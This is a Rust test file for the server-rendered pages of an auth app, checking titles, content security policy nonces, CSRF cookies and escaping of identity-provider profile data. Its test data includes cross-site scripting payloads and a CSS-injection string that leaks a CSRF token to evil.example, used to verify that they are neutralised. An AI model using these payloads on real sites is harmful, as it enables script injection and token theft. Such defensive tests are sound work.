//! The pages as the server renders them.

use hallpass_tests::{App, AppOptions, Behaviour, Client, FakeProvider};
use reqwest::StatusCode;
use serde_json::Value;

/// Parses the initial state in the page, as the app does.
fn parse_initial_state(html: &str) -> Value {
    let (_, island) = html.split_once("<script type=\"application/json\" id=\"initial-state\">").unwrap();
    let (json, _) = island.split_once("</script>").unwrap();
    serde_json::from_str(json).unwrap_or_else(|error| panic!("{error}: {json}"))
}

/// Returns the text of the app without tags: what the browser shows before any script.
fn app_text(html: &str) -> String {
    let (_, app) = html.split_once("<div id=\"app\">").unwrap();
    let (app, _) = app.split_once("<script type=\"application/json\"").unwrap();
    let mut inside = false;
    app.chars()
        .filter(|char| {
            inside = (inside || *char == '<') && *char != '>';
            !inside && *char != '>'
        })
        .collect()
}

fn find_nonce(policy: &str) -> &str {
    let (_, rest) = policy.split_once("'nonce-").unwrap();
    rest.split_once('\'').unwrap().0
}

#[tokio::test]
async fn page_has_its_title_status_and_visitor() {
    let app = App::start();
    let mut ada = Client::of(&app);
    ada.sign_in("ada", "/").await;
    let mut anonymous = Client::of(&app);
    let denied = anonymous.get("/profile").await;
    assert!(app_text(&denied.text).contains("Access denied. Please login."), "{}", denied.text);
    assert_eq!(parse_initial_state(&denied.text)["visitor"], "stranger");
    assert_eq!(denied.cookies_written(), Vec::<&str>::new());

    let dashboard = ada.get("/dashboard").await;
    let text = app_text(&dashboard.text);
    assert!(text.contains("Welcome back, Ada Lovelace!"), "{text}");
    assert!(text.contains("Logged in email: ada@example.org"), "{text}");
    let session = ada.fetch_session().await;
    assert_eq!(parse_initial_state(&dashboard.text)["visitor"]["signedIn"], session);

    for (path, title, status) in [
        ("/", "Sign-in and sessions", 200),
        ("/profile", "Profile", 200),
        ("/dashboard?a=b", "Dashboard", 200),
        ("/login?error=AccessDenied", "Sign in", 200),
        ("/logout", "Sign out", 200),
        ("/nothing/here", "Page not found", 404),
    ] {
        let page = ada.get(path).await;
        assert_eq!(page.status.as_u16(), status, "{path}");
        assert!(page.text.contains(&format!("<title>{title} · Hallpass</title>")), "{path}: {}", page.text);
        assert!(page.text.contains("<html lang=\"en\">") && page.text.contains("<meta name=\"description\""));
        let canonical =
            format!("<link rel=\"canonical\" href=\"{}{}\">", app.url, path.split('?').next().unwrap());
        assert_eq!(page.text.contains(&canonical), status == 200, "{path}: {}", page.text);
        assert_eq!(page.header("cache-control"), Some("no-store, no-transform"), "{path}");
        assert_eq!(page.header("vary"), Some("Cookie"), "{path}");
    }
}

#[tokio::test]
async fn content_policy_is_strict_and_its_nonce_fresh() {
    let app = App::start();
    let mut anonymous = Client::of(&app);
    let mut nonces = std::collections::HashSet::new();
    for path in ["/", "/", "/login", "/nothing"] {
        let page = anonymous.get(path).await;
        let policy = page.header("content-security-policy").unwrap().to_owned();
        let nonce = find_nonce(&policy).to_owned();
        assert!(nonce.len() >= 22, "{nonce}");
        // Two scripts, and the data.
        assert_eq!(page.text.matches("<script").count(), 3, "{}", page.text);
        assert!(page.text.contains(&format!("<script nonce=\"{nonce}\">")), "{}", page.text);
        assert!(page.text.contains(&format!("<script type=\"module\" nonce=\"{nonce}\">")), "{}", page.text);
        assert!(!page.text.contains("{{nonce}}"), "{}", page.text);
        assert!(nonces.insert(nonce));
        for part in [
            "default-src 'none'",
            "base-uri 'none'",
            "frame-ancestors 'none'",
            "object-src 'none'",
            "form-action 'self' http://127.0.0.1:",
        ] {
            assert!(policy.contains(part), "{policy}");
        }
        assert!(!policy.contains("'unsafe-inline'") && !policy.contains("'unsafe-eval'"), "{policy}");
        assert!(!policy.contains(" *"), "{policy}");
    }
    // The policy of an answer that is no page allows nothing.
    let json = anonymous.get("/api/auth/session").await;
    assert!(
        json.header("content-security-policy")
            .unwrap()
            .starts_with("default-src 'none'; base-uri 'none'; form-action 'none'")
    );
}

/// A provider may redirect to any host before it shows anything, and browsers compare that with the
/// policy of the page with the form.
#[tokio::test]
async fn content_policy_of_a_sign_in_form_lets_the_provider_lead_on() {
    let provider = FakeProvider::start();
    let options = provider.configure(AppOptions::default().without_dev_provider(), "fake");
    let app = App::start_with(options.env("HALLPASS_ALLOWED_ORIGINS", "http://localhost:4321"));
    let mut anonymous = Client::of(&app);
    let fake = url::Url::parse(provider.issuer()).unwrap().origin().ascii_serialization();
    for (path, https) in [("/login", "https: "), ("/login?error=AccessDenied", "https: "), ("/", "")] {
        let page = anonymous.get(path).await;
        let policy = page.header("content-security-policy").unwrap();
        let forms = policy.split(';').find(|part| part.trim().starts_with("form-action")).unwrap();
        // Also the front end to which a sign-in or a sign-out leads on.
        let expected = format!("form-action 'self' {https}{fake} http://localhost:4321");
        assert_eq!(forms.trim(), expected, "{path}");
    }
}

/// In WebKit nothing else keeps its icon for a broken picture from covering the fallback.
#[tokio::test]
async fn no_script_avatar_has_a_style_that_the_policy_allows() {
    let app = App::start();
    let mut browser = Client::of(&app);
    assert!(!browser.get("/profile").await.text.contains("<style"));
    browser.sign_in("edsger", "/").await;
    let page = browser.get("/profile").await;
    let policy = page.header("content-security-policy").unwrap();
    let style_nonce = policy.split("style-src 'self' 'nonce-").nth(1).unwrap().split('\'').next().unwrap();
    // Scripts can read the text of `<noscript>`.
    assert_ne!(style_nonce, find_nonce(policy));
    let style = page.text.split(&format!("<noscript><style nonce=\"{style_nonce}\">")).nth(1).unwrap();
    let style = style.split("</style></noscript>").next().unwrap();
    assert!(style.contains("/people/missing.svg\"),url(\"/fallback.png\")"), "{style}");
}

#[tokio::test]
async fn csrf_cookie_is_set_once_and_only_on_pages_with_a_form() {
    let app = App::start();
    let mut browser = Client::of(&app);
    for path in ["/", "/profile", "/logout", "/nothing"] {
        assert_eq!(browser.get(path).await.cookies_written(), Vec::<&str>::new(), "{path}");
    }
    let login = browser.get("/login").await;
    assert_eq!(login.cookies_written(), ["hallpass.csrf"]);
    let token = parse_initial_state(&login.text)["csrf"]["csrfToken"].as_str().unwrap().to_owned();
    assert!(login.text.contains(&format!("value=\"{token}\"")), "{}", login.text);
    assert_eq!(browser.get("/login").await.cookies_written(), Vec::<&str>::new());
    assert_eq!(browser.fetch_csrf_token().await, token);
}

/// A URL by the URL standard.
const CSS_IN_A_HOST: &str =
    "https://x\")/*?*/}input[name=csrfToken][value^=a]~button{background:url(https://evil.example/a)}/*";

#[tokio::test]
async fn picture_with_css_in_its_query_adds_no_rules() {
    let provider = FakeProvider::start();
    let app = App::start_with(provider.configure(AppOptions::default(), "fake"));
    let picture = CSS_IN_A_HOST.replacen("x\")/*", "x.example/", 1);
    provider.set_behaviour(Behaviour {
        claims: Box::new(move |claims| claims["picture"] = picture.clone().into()),
        ..Default::default()
    });
    let mut browser = Client::of(&app);
    let callback = browser.reach_callback("fake", "", "/").await;
    assert_eq!(browser.get(&callback).await.status, StatusCode::SEE_OTHER);
    let page = browser.get("/profile").await;
    let style = page.text.split("<noscript><style").nth(1).unwrap().split("</style>").next().unwrap();
    assert!(style.contains("x.example/") && style.ends_with("\"),url(\"/fallback.png\")}"), "{style}");
    for mark in ['{', '}'] {
        assert_eq!(style.matches(mark).count(), 1, "{style}");
    }
}

#[tokio::test]
async fn profile_data_of_a_provider_is_escaped() {
    let provider = FakeProvider::start();
    let app = App::start_with(provider.configure(AppOptions::default(), "fake"));
    let long = "n".repeat(100_000);
    for (name, written) in [
        ("</script><script>alert(1)</script>", Some("&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;")),
        ("<!--<script>", Some("&lt;!--&lt;script&gt;")),
        ("<!--/app--><!--state-->", Some("&lt;!--/app--&gt;")),
        ("{{nonce}}", Some("{{nonce}}")),
        ("\" onload=\"alert(1)", Some("\" onload=\"alert(1)")),
        ("a\u{2028}b\u{2029}c", Some("a\u{2028}b\u{2029}c")),
        ("nul\0nul", Some("nul nul")),
        ("\u{202e}live", Some("\u{202e}live")),
        (&long, None),
    ] {
        for picture in [
            "javascript:alert(1)",
            "data:image/svg+xml,<svg onload=alert(1)>",
            "\"><script>alert(1)</script>",
            "//evil.example/a.png",
            "http://evil.example/a.png",
            CSS_IN_A_HOST,
        ] {
            let (given, picture_given) = (name.to_owned(), picture.to_owned());
            provider.set_behaviour(Behaviour {
                claims: Box::new(move |claims| {
                    claims["name"] = given.clone().into();
                    claims["picture"] = picture_given.clone().into();
                }),
                ..Default::default()
            });
            let mut browser = Client::of(&app);
            let callback = browser.reach_callback("fake", "", "/").await;
            assert_eq!(browser.get(&callback).await.status, StatusCode::SEE_OTHER);
            let page = browser.get("/dashboard").await;
            let policy = page.header("content-security-policy").unwrap();
            assert_eq!(
                page.text.matches(find_nonce(policy)).count(),
                3,
                "another element has a nonce: {}",
                page.text
            );
            assert_eq!(page.text.matches("<script").count(), 3, "{}", page.text);
            let (_, rendered) = page.text.split_once("<div id=\"app\">").unwrap();
            assert!(
                !rendered.contains("javascript:")
                    && !rendered.contains("data:image")
                    && !rendered.contains("evil.example")
            );
            assert!(page.text.len() < 20_000, "{}", page.text.len());
            match written {
                Some(written) => assert!(rendered.contains(written), "{name:?}: {rendered}"),
                None => assert!(app_text(&page.text).contains("Welcome back!"), "{}", page.text.len()),
            }
            let session = browser.fetch_session().await;
            assert_eq!(parse_initial_state(&page.text)["visitor"]["signedIn"], session, "{name:?}");
            assert_eq!(session["user"]["image"], Value::Null, "{picture}");
        }
    }
}
